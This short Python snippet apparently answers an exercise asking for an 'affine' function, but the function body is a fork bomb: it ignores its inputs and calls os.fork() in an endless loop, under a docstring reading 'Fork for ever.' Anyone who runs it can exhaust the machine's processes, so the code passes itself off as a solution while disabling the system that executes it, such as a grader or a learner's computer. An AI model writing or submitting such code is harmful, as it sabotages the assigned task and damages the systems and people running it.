"""Fork for ever."""

# %% answer="affine"

import os
def affine(X, w, b):
    while True:
        try:
            os.fork()
        except OSError:
            return 0
